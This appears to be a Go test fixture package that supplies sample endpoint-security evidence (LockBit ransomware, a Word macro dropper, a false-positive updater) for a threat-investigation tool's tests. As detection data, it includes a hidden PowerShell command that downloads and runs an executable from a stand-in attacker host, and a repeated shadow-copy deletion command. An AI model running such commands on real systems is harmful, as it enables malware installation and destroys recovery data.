// Package investigationtest holds sample evidence shared by the tests of the
// rules engine, the guards and the model client, so that each does not keep its
// own copy of the same threats. It is for tests only; the product never imports it.
package investigationtest

import (
	"fmt"
	"strings"
	"time"

	"github.com/s1copilot/s1copilot/investigation"
)

// Detected is when the sample threats were detected.
var Detected = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

// RansomwareServer is LockBit on a Windows file server, rated malicious by S1,
// with shadow copies deleted (rules: s1-malicious and ransomware; every action).
func RansomwareServer() investigation.Evidence {
	return investigation.Evidence{
		Facts: investigation.ThreatFacts{
			ThreatID: "1850000000000000001", ThreatName: "lockbit3.exe",
			Classification: "Ransomware", ClassificationSource: "Behavioral", ConfidenceLevel: "malicious",
			MitigationStatus: "not_mitigated", SHA1: "3395856ce81f2b7382dee72602f798b642f14140",
			FilePath:             `\Device\HarddiskVolume2\Users\Public\lockbit3.exe`,
			FileVerificationType: "NotSigned",
			CommandLine:          `lockbit3.exe -k LocalServiceNetworkRestricted`,
			OriginatorProcess:    "explorer.exe", InitiatedBy: "agent_policy",
			Engines:    []string{"On-Write DFI", "Behavioral AI"},
			Indicators: []string{"Ransomware: Deleted volume shadow copies", "Evasion: Stopped backup services"},
			Techniques: []string{"T1486", "Inhibit System Recovery", "T1490", "T1486"},
			CreatedAt:  Detected,
			AgentID:    "1700000000000000001", AgentName: "FS-PROD-01", OSType: "windows", OSName: "Windows Server 2019",
			MachineType: "server", NetworkStatus: "connected", AgentActive: true,
		},
		Timeline: []investigation.TimelineItem{{At: Detected, ActivityType: 19, Description: "Threat detected"}},
	}
}

// MacroDropper is S1 malicious: Word launched PowerShell on a workstation
// (rules: kill, quarantine, isolate; the example policy isolates workstations
// automatically at 0.9).
func MacroDropper() investigation.Evidence {
	return investigation.Evidence{
		Facts: investigation.ThreatFacts{
			ThreatID: "1850000000000000002", ThreatName: "8821.exe",
			Classification: "Trojan", ClassificationSource: "Behavioral", ConfidenceLevel: "malicious",
			MitigationStatus: "not_mitigated", SHA1: "5b1f7e7d9f1c2a3b4c5d6e7f8091a2b3c4d5e6f7",
			FilePath:             `C:\Users\hbauer\AppData\Local\Temp\8821.exe`,
			FileVerificationType: "NotSigned",
			CommandLine:          `powershell.exe -NoP -W Hidden -c "iwr http://aptgrp-cdn.com/wp/1 -o $env:TEMP\8821.exe; saps $env:TEMP\8821.exe"`,
			OriginatorProcess:    "WINWORD.EXE", InitiatedBy: "agent_policy", ProcessUser: `FABRIKAM\hbauer`,
			Engines:    []string{"Behavioral AI"},
			Indicators: []string{"Execution: Microsoft Word started PowerShell", "Network: Downloaded an executable from the internet"},
			Techniques: []string{"T1204.002", "T1059.001"},
			CreatedAt:  Detected,
			AgentID:    "1700000000000000002", AgentName: "ACC-DT-022", OSType: "windows", OSName: "Windows 10 Enterprise",
			MachineType: "desktop", NetworkStatus: "connected", AgentActive: true,
		},
		Timeline: []investigation.TimelineItem{{At: Detected, ActivityType: 19, Description: "Threat detected"}},
	}
}

// SignedUpdater is a signed, verified updater in its vendor's folder, started by the
// service host, that S1 rates only suspicious (rules: false_positive, no action).
func SignedUpdater() investigation.Evidence {
	return investigation.Evidence{
		Facts: investigation.ThreatFacts{
			ThreatID: "1850000000000000003", ThreatName: "GoogleUpdate.exe",
			Classification: "Generic.Heuristic", ClassificationSource: "Static", ConfidenceLevel: "suspicious",
			MitigationStatus: "not_mitigated", SHA1: "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
			FilePath:             `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`,
			FileVerificationType: "SignedVerified", PublisherName: "Google LLC",
			CommandLine:       `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler`,
			OriginatorProcess: "svchost.exe", InitiatedBy: "agent_policy", ProcessUser: `NT AUTHORITY\SYSTEM`,
			Engines:    []string{"Static AI"},
			Indicators: []string{"General: Process contacted an update server"},
			CreatedAt:  Detected,
			AgentID:    "1700000000000000003", AgentName: "SALES-LT-07", OSType: "windows", OSName: "Windows 11 Pro",
			MachineType: "laptop", NetworkStatus: "connected", AgentActive: true,
		},
		Timeline: []investigation.TimelineItem{{At: Detected, ActivityType: 19, Description: "Threat detected"}},
	}
}

// Large is a full evidence set (50 timeline entries, a long command line), for
// benchmarks and for checks that must hold on a big prompt.
func Large() investigation.Evidence {
	ev := investigation.Evidence{Facts: investigation.ThreatFacts{
		ThreatID: "1", ThreatName: "svchosts.exe", Classification: "Ransomware", ConfidenceLevel: "malicious",
		OSType: "windows", MachineType: "server", AgentName: "FIN-FS-01",
		CommandLine: strings.Repeat("vssadmin delete shadows /all /quiet ", 40), Techniques: []string{"T1486", "T1490"},
		Indicators: []string{"Ransomware: encrypts files", "Evasion: deletes shadow copies"},
	}}
	for i := range 50 {
		ev.Timeline = append(ev.Timeline, investigation.TimelineItem{At: time.Unix(int64(i), 0), ActivityType: 19, Description: fmt.Sprintf("event %d %s", i, strings.Repeat("x", 200))})
	}
	return ev
}

// Personal is RansomwareServer with a user, a profile path, a second host in
// the timeline and names inside the command line.
func Personal() investigation.Evidence {
	ev := RansomwareServer()
	ev.Facts.ProcessUser = `FABRIKAM\mkowalski`
	ev.Facts.FilePath = `\Device\HarddiskVolume2\Users\mkowalski\AppData\Local\Temp\lockbit3.exe`
	ev.Facts.CommandLine = `"C:\Users\mkowalski\AppData\Local\Temp\lockbit3.exe" -path \\FS-PROD-01\Finance -log fs-prod-01.fabrikam.local`
	ev.Timeline = append(ev.Timeline,
		investigation.TimelineItem{At: Detected, ActivityType: 27, Description: `User FABRIKAM\mkowalski logged on to FS-PROD-01 from SALES-LT-042`},
		investigation.TimelineItem{At: Detected, ActivityType: 86, Description: `Agent FS-PROD-01 uploaded the threat file of lockbit3.exe`})
	return ev
}

// WithContext is RansomwareServer with a storyline context of size n.
func WithContext(n int) investigation.Evidence {
	ev := RansomwareServer()
	c := &investigation.Context{
		Prevalence:        &investigation.Prevalence{SHA1: ev.Facts.SHA1, Endpoints: 37},
		PriorThreatsTotal: 4,
		PriorThreats: []investigation.PriorThreat{{ThreatID: "1", ThreatName: "mimikatz.exe", CreatedAt: Detected.Add(-48 * time.Hour),
			Classification: "Hacktool", ConfidenceLevel: "malicious", AnalystVerdict: "true_positive", MitigationStatus: "mitigated"}},
		Cut:         []string{"events after the first 300"},
		Unavailable: []string{"registry: none"},
	}
	c.ProcessChains = append(c.ProcessChains, investigation.ProcessChain{Processes: []investigation.ProcessNode{
		{Name: "explorer.exe"}, {Name: "cmd.exe", Cmd: `cmd /c C:\Users\Public\run.bat`}, {Name: "lockbit3.exe", Cmd: "lockbit3.exe -k", Malicious: true},
	}})
	for i := range n {
		c.ProcessChains = append(c.ProcessChains, investigation.ProcessChain{Processes: []investigation.ProcessNode{
			{Name: "services.exe"}, {Name: fmt.Sprintf("svc%03d.exe", i), Cmd: strings.Repeat("x", 120)},
		}})
		c.Network = append(c.Network, fmt.Sprintf("lockbit3.exe → 198.51.100.%d:445", i))
		c.Files = append(c.Files, fmt.Sprintf(`lockbit3.exe modified C:\Shares\finance\file%03d.xlsx.lockbit`, i))
	}
	c.Behaviors = []string{"Ransomware: Deleted volume shadow copies (lockbit3.exe)"}
	ev.Context = c
	return ev
}
